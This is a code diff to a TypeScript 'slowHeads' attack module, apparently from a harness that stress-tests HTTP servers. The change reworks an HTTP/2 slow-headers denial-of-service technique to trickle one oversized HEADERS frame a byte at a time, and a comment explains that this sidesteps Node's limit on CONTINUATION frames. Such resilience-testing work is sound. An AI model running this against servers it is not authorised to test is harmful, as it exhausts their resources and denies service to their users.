@@ -1,6 +1,6 @@
 import type { Socket } from "node:net";
 import { type Attack, type AttackContext, inParallel, pause } from "../attack.ts";
-import { data, encodeFields, FRAME, frame, headers } from "../frames.ts";
+import { data, encodeFields, headers } from "../frames.ts";
 import { openRawSession } from "../raw-session.ts";
 import { IMPORT_REST, requestOf, unknownToken } from "../requests.ts";
 
@@ -15,8 +15,12 @@ export const slowHeads: Attack = async (context) => {
       return () => socket.write("a");
     })),
     ...(await openAll(context, "h2", (socket) => {
-      socket.write(frame(FRAME.headers, 0, 1, encodeFields(requestOf("healthz").fields)));
-      return () => socket.write(frame(FRAME.continuation, 0, 1, encodeFields([["x-slow", "a"]])));
+      // One frame, of which a byte follows the other: Node ends a connection at the ninth CONTINUATION frame.
+      const block = encodeFields([...requestOf("healthz").fields, ["x-slow", "a".repeat(10_000)]]);
+      const whole = headers(1, block, { endStream: true });
+      let sent = 100;
+      socket.write(whole.subarray(0, sent));
+      return () => socket.write(whole.subarray(sent, ++sent));
     })),
   ];
   await dripAll(context, drips);
